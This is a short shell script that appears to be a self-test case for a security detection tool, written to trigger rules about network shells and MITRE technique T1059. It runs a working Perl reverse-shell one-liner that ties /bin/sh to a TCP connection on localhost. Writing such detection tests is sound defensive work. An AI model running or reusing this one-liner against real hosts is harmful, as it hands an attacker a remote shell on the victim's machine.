#!/bin/sh
# rule: Standard input or output of a process tied to a network connection
# rule: Shell or interpreter started on a network connection
# rule: Network shell written on a command line
# technique: T1059
# case: Perl ties a shell to a connection
# needs: perl, python3

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/listener.inc"
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($ARGV[0],inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' "$(cat port)"
wait
